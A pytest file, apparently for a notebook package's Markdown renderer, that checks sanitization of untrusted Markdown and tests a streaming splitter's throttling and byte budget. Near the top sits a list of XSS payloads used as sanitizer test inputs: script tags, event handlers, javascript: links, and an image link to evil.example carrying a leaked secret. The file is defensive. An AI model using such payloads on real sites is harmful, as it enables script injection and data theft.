"""Markdown rendering, sanitizing, and the streaming splitter's blocks, throttle and byte budget."""

from __future__ import annotations

import html
import itertools
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from oxen_notebook._render import CODE_CHUNK_LINES, render_code, render_markdown
from oxen_notebook._streaming import StreamingMarkdown, Throttle, Update
from oxen_notebook._style import TOKEN_CLASSES

# -- sanitizing --------------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    '<div onclick="alert(1)">raw html</div>',
    "<svg><script>alert(1)</script></svg>",
    "[link](javascript:alert(1))",
    "[link](JAVASCRIPT:alert(1))",
    "[link](vbscript:msgbox(1))",
    "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "![img](https://evil.example/x.png?leak=secret)",
    '[a](https://ok.example "title" onmouseover=alert(1))',
    "<a href='https://ok.example' onmouseover='alert(1)'>x</a>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |",
    "<!-- comment --><b>bold</b>",
]


class Elements(HTMLParser):
    """Every element a browser would build from the fragment, with its attributes."""

    def __init__(self, fragment: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


SAFE_TAGS = {"p", "a", "code", "div", "pre", "span", "table", "thead", "tbody", "tr", "th", "td", "em"}
#: Classes a rendered element may carry: the code block's and the token kinds' (``_style``).
OUR_CLASSES = TOKEN_CLASSES | {
    "oxen-code",
    "oxen-code-more",
    "oxen-code-head",
    "oxen-code-lang",
    "oxen-code-actions",
}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_untrusted_markdown_cannot_run_code(payload: str) -> None:
    elements = Elements(render_markdown(payload)).found
    assert elements, "the payload should still be shown, as text"
    for tag, attrs in elements:
        assert tag in SAFE_TAGS, tag
        assert tag == "code" or set((attrs.get("class") or "").split()) <= OUR_CLASSES, attrs
        assert not [name for name in attrs if name.startswith("on") or name == "src"]
        href = (attrs.get("href") or "").strip().lower()
        assert not href or href.startswith(("https://", "http://", "mailto:")), href
        if tag == "a":
            assert attrs.get("rel") == "noopener noreferrer" and attrs.get("target") == "_blank"


def test_raw_html_is_shown_as_text() -> None:
    out = render_markdown('<img src=x onerror="alert(1)"> and <b>bold</b>')
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in out or "&lt;img src=x" in out
    assert html.unescape(re.sub(r"<[^>]+>", "", out)).strip() == (
        '<img src=x onerror="alert(1)"> and <b>bold</b>'
    )


def test_links_open_in_a_new_tab_without_opener() -> None:
    out = render_markdown("[docs](https://docs.oxen.ai) and <https://hub.oxen.ai> and [m](mailto:a@b.c)")
    links = re.findall(r"<a [^>]*>", out)
    assert len(links) == 3
    for link in links:
        assert 'target="_blank"' in link and 'rel="noopener noreferrer"' in link
    assert 'href="https://docs.oxen.ai"' in out and 'href="mailto:a@b.c"' in out


def test_relative_and_other_scheme_links_lose_their_href() -> None:
    out = render_markdown("[rel](/api/contents) [ftp](ftp://x.example/f) [ok](http://x.example)")
    assert out.count("href=") == 1 and 'href="http://x.example"' in out


def test_images_become_links_and_are_not_loaded() -> None:
    out = render_markdown("![a chart](https://example.com/c.png)")
    assert "<img" not in out
    assert '<a href="https://example.com/c.png"' in out and "image: a chart" in out


def test_only_alignment_styles_and_our_classes_survive() -> None:
    out = render_markdown("```python\ndef f():\n    return 'x'  # hi\n```\n\n| a |\n|--:|\n| 1 |")
    styles = set(re.findall(r'style="([^"]*)"', out))
    assert styles == {"text-align:right"}  # code is coloured by classes, not inline colours
    assert {"ox-k", "ox-s", "ox-c", "ox-nf"} <= set(re.findall(r'class="(ox-[a-z]+)"', out))
    from oxen_notebook._render import sanitize

    evil = sanitize('<span style="color: #D73A49">k</span><span style="position:fixed;top:0">x</span>')
    assert evil == "<span>k</span><span>x</span>"
    assert sanitize('<code class="language-py x" >c</code>') == "<code>c</code>"
    spans = sanitize(
        '<span class="ox-k evil ox-s">k</span><span class="jp-Dialog">x</span><div class="oxen-code x">'
    )
    assert spans == '<span class="ox-k ox-s">k</span><span>x</span><div class="oxen-code"></div>'
    assert (
        sanitize('<div data-lang="py&quot; onclick=x" class="oxen-code">c</div>')
        == '<div class="oxen-code">c</div>'
    )


def code_text(fragment: str) -> str:
    blocks = re.findall(r"<pre>(.*?)</pre>", fragment, re.S)
    return "".join(html.unescape(re.sub(r"<[^>]+>", "", block)) for block in blocks)


def test_code_is_a_block_with_a_header_and_keeps_its_text() -> None:
    code = "def f(x):\n    return x < 2 and 'a&b'  # done\n\n\n"
    out = render_markdown(f"```python\n{code}```")
    assert out.startswith(
        '<div class="oxen-code" data-lang="python"><div class="oxen-code-head">'
        '<span class="oxen-code-lang">python</span><span class="oxen-code-actions"></span></div>'
        '<pre><code class="language-python"><span class="ox-k">def</span>'
    )
    assert out.endswith("</code></pre></div>\n")
    assert code_text(out) == code
    unknown = render_markdown("```nosuchlanguage\nx = 1\n```")
    assert "ox-" not in unknown and 'data-lang="nosuchlanguage"' in unknown
    assert '<span class="oxen-code-lang">code</span>' in render_markdown("```\nx\n```")


def test_long_code_is_rendered_in_chunks_of_lines() -> None:
    code = "".join(f"x{i} = {i}\n" for i in range(2 * CODE_CHUNK_LINES + 5))
    out = render_markdown(f"```python\n{code}```\n")
    assert out.count("<pre>") == 3
    assert out.count('class="oxen-code-head"') == 1  # one header; the later parts continue the block
    assert out.count('<div class="oxen-code oxen-code-more" data-lang="python"><pre>') == 2
    assert code_text(out) == code
    assert render_code(code, "python") == out


def test_markdown_features() -> None:
    out = render_markdown("# T\n\n**b** *i* ~~s~~ `c`\n\n1. one\n2. two\n\n> q\n\n---\n")
    for tag in ("<h1>", "<strong>", "<em>", "<s>", "<code>", "<ol>", "<blockquote>", "<hr"):
        assert tag in out


# -- streaming ---------------------------------------------------------------------------------


class Clock:
    def __init__(self) -> None:
        self.now = 0.0

    def __call__(self) -> float:
        return self.now


class Screen:
    """Applies updates the way a frontend would, counting messages and bytes."""

    def __init__(self, overhead: int = 400) -> None:
        self.slots: list[str] = []
        self.messages = 0
        self.bytes = 0
        self.overhead = overhead
        self.log: list[Update] = []

    def apply(self, updates: list[Update]) -> None:
        for update in updates:
            self.log.append(update)
            self.messages += 1
            self.bytes += len(update.html.encode()) + self.overhead
            if update.kind == "new":
                assert update.slot == len(self.slots)
                self.slots.append(update.html)
            elif update.kind == "set":
                self.slots[update.slot] = update.html
            else:
                self.slots = [update.html]

    @property
    def html(self) -> str:
        return "".join(self.slots)


def play(text: str, deltas: int = 5000, dt: float = 0.001, **options) -> tuple[Screen, float]:
    clock = Clock()
    stream = StreamingMarkdown(clock=clock, **options)
    screen = Screen()
    size = max(1, -(-len(text) // deltas))
    for start in range(0, len(text), size):
        clock.now += dt
        screen.apply(stream.feed(text[start : start + size]))
    screen.apply(stream.close())
    assert screen.slots == stream.slots
    assert screen.bytes == stream.sent_bytes
    return screen, clock.now


PARA = "Lorem ipsum dolor sit amet, **consectetur** adipiscing elit, sed `do` eiusmod tempor. "
PROSE = "".join(
    f"## Part {k}\n\n{PARA * 4}\n\n- first point\n- second with [a link](https://x.example)\n\n"
    for k in range(60)
)
CODE = "```python\n" + "".join(f"def f{j}(x):\n    return x * {j}  # c\n" for j in range(600)) + "```\n"
SHAPES = {
    "prose": PROSE,
    "giant paragraph": PARA * 350,
    "giant paragraph of lines": (PARA + "\n") * 350,
    "giant list": "".join(f"{j}. item {PARA}\n" for j in range(1, 300)),
    "giant table": "| a | b |\n|---|--:|\n" + "".join(f"| {j} | {PARA[:30]} |\n" for j in range(600)),
    "giant fence": CODE,
    "unclosed fence": CODE[:-4],
    "mixed": PROSE[:8000] + CODE[:6000] + "\n" + PROSE[:8000],
    "crlf": PROSE[:6000].replace("\n", "\r\n"),
    "references": "See [the docs][d] and [more][m].\n\n" + PROSE[:3000] + "\n\n[d]: https://d.example\n"
    "[m]: https://m.example 'M'\n\nLast [d].\n",
    "tricky": "\t- tab item\n\n  * nested\n\n> quote\nlazy line\n\nTitle\n===\n\n    code\n\n\n    more\n"
    "1. a\n\n2. b\n\n10) c\n\n| t |\n|---|\n| 1 |\nnot a row\n\n***\n\x00 nul\n" * 20,
}


@pytest.mark.parametrize("dt", [0.0001, 0.02])
@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_final_render_is_exact_and_traffic_bounded(shape: str, dt: float) -> None:
    text = SHAPES[shape]
    screen, duration = play(text, dt=dt)
    full = render_markdown(text.replace("\r\n", "\n"))
    assert screen.html == full
    reply = len(text.encode())
    # At most one message per 50 ms on average, plus the final ones.
    assert screen.messages <= duration / 0.05 + 3
    # HTML bigger than its Markdown (highlighted code, tables) is sent once; beyond that, the
    # traffic stays within 2.5x the reply plus a constant.
    # (+1 KB: the pieces of a block cut while streaming can render a little bigger than it.
    # A reference definition arriving late costs one full render more: it changes sent blocks.)
    # And the pace: 8 KB per second of streaming, so a slow reply still updates a few times a second.
    late = len(full.encode()) if shape == "references" else 0
    paced = 8192 * duration
    assert screen.bytes <= max(0, len(full.encode()) - reply) + 2.5 * reply + 8192 + 1024 + late + paced
    if len(full.encode()) < 1.45 * reply:
        assert screen.bytes <= 3 * reply + 8192 + paced, (screen.bytes / reply, screen.messages)


def test_5000_delta_reply_costs_at_most_3x_its_size() -> None:
    screen, duration = play(PROSE, deltas=5000, dt=0.02)
    reply = len(PROSE.encode())
    assert reply > 20_000
    assert screen.bytes <= 3 * reply + 8192 + 8192 * duration
    # Quadratic re-sending of the whole text would cost thousands of times more.
    assert screen.messages > 50


def test_finished_blocks_are_sent_once() -> None:
    clock = Clock()
    stream = StreamingMarkdown(clock=clock)
    screen = Screen()
    screen.apply(stream.feed("First paragraph.\n\n"))
    assert screen.slots == ["<p>First paragraph.</p>\n"]
    for word in ["Second ", "para", "graph ", "grows", ".\n\n", "Third", " one"]:
        clock.now += 0.06
        screen.apply(stream.feed(word))
    assert screen.slots[:2] == ["<p>First paragraph.</p>\n", "<p>Second paragraph grows.</p>\n"]
    assert screen.slots[2] == "<p>Third one</p>\n"
    first = [u for u in screen.log if u.slot == 0]
    second = [u for u in screen.log if u.slot == 1]
    assert len(first) == 1  # shown as the tail, then already final: never re-sent
    assert second[-1].html == "<p>Second paragraph grows.</p>\n"
    before = len(screen.log)
    clock.now += 0.06
    screen.apply(stream.feed(" more"))
    assert [u.slot for u in screen.log[before:]] == [2]


def test_code_fence_with_blank_lines_stays_one_block() -> None:
    clock = Clock()
    stream = StreamingMarkdown(clock=clock)
    screen = Screen()
    for part in ["```python\n", "a = 1\n", "\n", "\n", "b = 2\n", "```\n", "\n", "after"]:
        clock.now += 0.06
        screen.apply(stream.feed(part))
    assert len(screen.slots) == 2
    assert screen.slots[0].count("<pre>") == 1 and "b" in screen.slots[0]
    assert screen.slots[1] == "<p>after</p>\n"


def test_long_fence_is_committed_chunk_by_chunk_exactly() -> None:
    clock = Clock()
    stream = StreamingMarkdown(clock=clock)
    screen = Screen()
    lines = [f"value_{i} = {i}\n" for i in range(3 * CODE_CHUNK_LINES + 7)]
    screen.apply(stream.feed("```python\n"))
    for line in lines:
        clock.now += 0.06
        screen.apply(stream.feed(line))
    committed = screen.slots[:-1]
    assert len(committed) >= 3
    screen.apply(stream.close())
    full = render_markdown("```python\n" + "".join(lines))
    assert screen.html == full


def test_throttle_limits_ticks() -> None:
    clock = Clock()
    throttle = Throttle(0.05, clock)
    assert throttle.ready()
    throttle.spend(2)
    clock.now = 0.099
    assert not throttle.ready()
    clock.now = 0.1
    assert throttle.ready()


def test_deltas_in_one_interval_give_one_update() -> None:
    clock = Clock()
    stream = StreamingMarkdown(clock=clock)
    updates = [u for word in ["a", "b", "c", "d", "e", "f"] for u in stream.feed(word + " ")]
    assert len(updates) == 1
    assert stream.close() == [Update("set", 0, "<p>a b c d e f</p>\n")]


def test_empty_and_whitespace_replies() -> None:
    assert play("")[0].slots == []
    screen, _ = play("   \n\n  ")
    assert screen.html == ""


def test_feed_after_close_is_an_error() -> None:
    stream = StreamingMarkdown()
    stream.close()
    with pytest.raises(RuntimeError):
        stream.feed("x")


# -- reference definitions: streamed equals one-shot -------------------------------------------


def stream_final(pieces: list[str], dt: float = 0.06, **options) -> str:
    """Feed ``pieces`` (one clock tick each), close, and return what the slots show."""
    clock = Clock()
    stream = StreamingMarkdown(clock=clock, **options)
    screen = Screen()
    for piece in pieces:
        clock.now += dt
        screen.apply(stream.feed(piece))
    screen.apply(stream.close())
    assert screen.html == stream.html  # (the screen may keep a slot emptied at the end)
    return stream.html


def feeds(text: str) -> dict[str, list[str]]:
    return {
        "whole": [text],
        "by char": list(text),
        "by line": text.splitlines(keepends=True),
        "by 3": [text[i : i + 3] for i in range(0, len(text), 3)],
    }


LATE_DEFINITIONS = {
    "quote after use": "[foo]\n\n> [foo]: https://foo.example\n",
    "quote before use": "> [foo]: https://foo.example\n\n[foo]\n",
    "bullet item": "Use [foo].\n\n- [foo]: https://foo.example\n",
    "ordered item in a quote": "[foo][]\n\n> 1. [foo]: https://foo.example 'T'\n",
    "quote in an item": "# [Foo]\n\n- > [foo]:\n  >   https://foo.example\n\nafter\n",
    "escaped bracket": "[a\\]b]\n\n[a\\]b]: https://foo.example\n",
    "no final newline": "[foo] and more\n\n> [foo]: https://foo.example",
    "after a table": "| [foo] |\n|---|\n| x |\n\n> [foo]: https://foo.example\n",
}


@pytest.mark.parametrize("how", ["whole", "by char", "by line", "by 3"])
@pytest.mark.parametrize("name", sorted(LATE_DEFINITIONS))
def test_reference_definitions_in_containers_apply_to_the_streamed_render(name: str, how: str) -> None:
    text = LATE_DEFINITIONS[name]
    full = render_markdown(text)
    assert 'href="https://foo.example"' in full  # the definition is one, and is used
    for dt in (0.0001, 0.06):
        assert stream_final(feeds(text)[how], dt) == full


def test_late_definition_in_a_quote_is_exact_and_traffic_bounded() -> None:
    text = "See [the docs][d] and [more][m].\n\n" + PROSE[:3000] + "\n\n> [d]: https://d.example\n"
    text += "> - [m]: https://m.example 'M'\n\nLast [d].\n"
    for dt in (0.0001, 0.02):
        screen, duration = play(text, dt=dt)
        full = render_markdown(text)
        assert full.count('href="https://d.example"') == 2 and 'href="https://m.example"' in full
        assert screen.html == full
        reply = len(text.encode())
        # As for a top-level definition arriving late: one full render more than the usual bound.
        bound = max(0, len(full.encode()) - reply) + 2.5 * reply + 8192 + 1024 + len(full)
        assert screen.bytes <= bound + 8192 * duration


LABELS = ["foo", "Foo", "bar baz", "a\\]b", "x"]
label = st.sampled_from(LABELS)
url = st.sampled_from(["https://a.example", "https://b.example/p?q=1", "<https://c.example/x y>"])
title = st.sampled_from(["", " 'T'", ' "a title"', "\n  (paren)"])
definition = st.builds(lambda lab, u, t: f"[{lab}]: {u}{t}", label, url, title)
use = st.one_of(
    st.builds(lambda lab: f"[{lab}]", label),
    st.builds(lambda lab: f"[{lab}][]", label),
    st.builds(lambda lab: f"[text *em*][{lab}]", label),
)
words = st.lists(st.one_of(use, st.sampled_from(["word", "**b**", "`c`", "[x]:"])), min_size=1, max_size=5)
paragraph = words.map(" ".join)


def _indent(prefix: str, block: str) -> str:
    rest = " " * len(prefix) if not prefix.startswith(">") else prefix
    lines = block.split("\n")
    return "\n".join([prefix + lines[0]] + [rest + line for line in lines[1:]])


simple_block = st.one_of(
    paragraph,
    paragraph,
    definition,
    paragraph.map(lambda p: "## " + p),
    st.builds(lambda d: f"```\n{d}\n```", definition),
    st.builds(lambda d: "    " + d.replace("\n", "\n    "), definition),
    st.builds(lambda p: f"| {p} |\n|---|\n| 1 |", paragraph),
    st.just("---"),
)
container_block = st.recursive(
    simple_block,
    lambda inner: st.builds(_indent, st.sampled_from(["> ", "- ", "1. ", "* ", ">"]), inner),
    max_leaves=4,
)
document = st.builds(
    lambda blocks, seps, end: "".join(b + s for b, s in zip(blocks, seps, strict=False)) + end,
    st.lists(container_block, min_size=1, max_size=6),
    st.lists(st.sampled_from(["\n\n", "\n", "\n\n\n"]), min_size=6, max_size=6),
    st.sampled_from(["", "\n", "\n\n"]),
)


@settings(max_examples=400, deadline=None)
@given(
    document, st.lists(st.integers(min_value=0, max_value=400), max_size=12), st.sampled_from([0.0001, 0.06])
)
@pytest.mark.slow
def test_streamed_render_equals_one_shot_render(text: str, cuts: list[int], dt: float) -> None:
    bounds = [0, *sorted(c for c in cuts if c < len(text)), len(text)]
    pieces = [text[a:b] for a, b in itertools.pairwise(bounds)]
    assert stream_final(pieces, dt) == render_markdown(text)
    assert stream_final(text.splitlines(keepends=True), dt) == render_markdown(text)


def test_a_slow_reply_still_updates_several_times_a_second() -> None:
    """A model writing ~200 bytes/s (a word every 30 ms) into one long paragraph, with the chat
    panel's settings: the screen must change at least every 0.5 s, not in bursts seconds apart."""
    clock = Clock()
    stream = StreamingMarkdown(clock=clock, overhead=800, ratio=2.3, allowance=4096)
    screen = Screen()
    changes = []
    shown = ""
    for i in range(600):  # 18 s of reply
        clock.now += 0.03
        screen.apply(stream.feed(f"word{i % 10} "))
        if screen.html != shown:
            shown = screen.html
            changes.append(clock.now)
    screen.apply(stream.close())
    gaps = [b - a for a, b in zip([0.0, *changes], changes, strict=False)]
    assert max(gaps) <= 0.5, max(gaps)
    assert screen.html == render_markdown("".join(f"word{i % 10} " for i in range(600)))
    # Linear still: the reply's bytes times the ratio, the allowance, and the pace per second.
    assert stream.sent_bytes <= 2.3 * len(stream.text.encode()) + 4096 + 8192 * clock.now + 4 * 1024 * 2.3
